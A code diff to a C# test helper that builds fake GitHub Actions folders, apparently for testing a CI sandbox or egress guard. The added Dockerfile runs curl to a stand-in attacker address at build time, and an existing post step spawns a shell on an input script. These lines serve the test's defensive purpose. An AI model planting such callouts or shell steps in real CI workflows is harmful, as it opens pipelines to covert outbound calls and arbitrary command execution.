@@ -22,6 +22,20 @@ internal static class ActionFolder
     private const string LatePost =
         "require('node:child_process').spawnSync('/bin/sh', ['-c', process.env.INPUT_SCRIPT], { stdio: 'inherit' })";
 
+    /// <summary>Runs `script` in a container of an image of its own, whose build calls out too.</summary>
+    private const string Docker = """
+        name: Docker
+        inputs: { script: { default: "" } }
+        runs: { using: docker, image: Dockerfile, args: ["${{ inputs.script }}"] }
+        """;
+
+    private const string Dockerfile = $"""
+        FROM ubuntu:latest
+        LABEL action=docker
+        RUN curl -sS --max-time 5 http://{LabAddresses.Attacker}/built || true
+        ENTRYPOINT ["/bin/bash", "-c"]
+        """;
+
     /// <summary>Writes both below a folder, and returns the path of the table.</summary>
     public static string LayOut(string folder, string product)
     {
@@ -47,6 +61,9 @@ internal static class ActionFolder
         File.WriteAllText(Path.Combine(late, "action.yml"), Late);
         File.WriteAllText(Path.Combine(late, "main.js"), "");
         File.WriteAllText(Path.Combine(late, "post.js"), LatePost);
+        string docker = Directory.CreateDirectory(Path.Combine(folder, "docker")).FullName;
+        File.WriteAllText(Path.Combine(docker, "action.yml"), Docker);
+        File.WriteAllText(Path.Combine(docker, "Dockerfile"), Dockerfile);
         string map = Path.Combine(folder, "actions.json");
         File.WriteAllText(map, JsonSerializer.Serialize(new Dictionary<string, string>
         {
@@ -54,6 +71,7 @@ internal static class ActionFolder
             ["sallyport/sallyport@v1"] = action,
             ["actions/checkout@v4"] = Path.Combine(AppContext.BaseDirectory, "actions", "checkout"),
             ["test/late@v1"] = late,
+            ["test/docker@v1"] = docker,
         }));
         return map;
     }
